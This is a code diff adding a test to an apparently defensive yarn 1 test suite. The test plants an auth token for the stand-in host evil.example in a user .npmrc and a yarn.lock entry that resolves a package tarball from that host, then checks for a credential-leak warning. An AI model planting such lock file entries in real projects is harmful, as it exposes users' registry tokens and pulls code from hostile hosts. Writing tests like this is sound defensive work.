@@ -185,6 +185,16 @@ describe.skipIf(!requires(join(bins.classic, "yarn")))("yarn 1", () => {
     expect(await namesAskedFor({ YARN_PROXY: "http://other.example:8080" })).toEqual(["other.example"]);
   });
 
+  test("gives no token where the lock file names a host that the user's own ~/.npmrc has a credential for", async () => {
+    const own = join(used.laptop.home, ".npmrc");
+    writeFileSync(own, "//evil.example/:_authToken=x\n");
+    const lock = `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/my-lib-1.0.0.tgz"\n`;
+    const { stderr } = await run("classic", [...install, "--ignore-scripts"], { "yarn.lock": lock });
+    rmSync(own);
+    expect(stderr).toMatch(/yarn\.lock: my-lib comes from evil\.example, for which your own \.npmrc has a credential/);
+    expect(used.network.requests.join("\n")).toContain("GET http://evil.example/my-lib-1.0.0.tgz");
+  });
+
   test.each<[what: string, files: (url: string) => Files, words: RegExp | undefined]>([
     ["another registry", (url) => ({ ".npmrc": `registry=${url}/\nalways-auth=true\n` }), undefined],
     ["another registry in .yarnrc", (url) => ({ ".yarnrc": `registry "${url}/"\n` }), undefined],
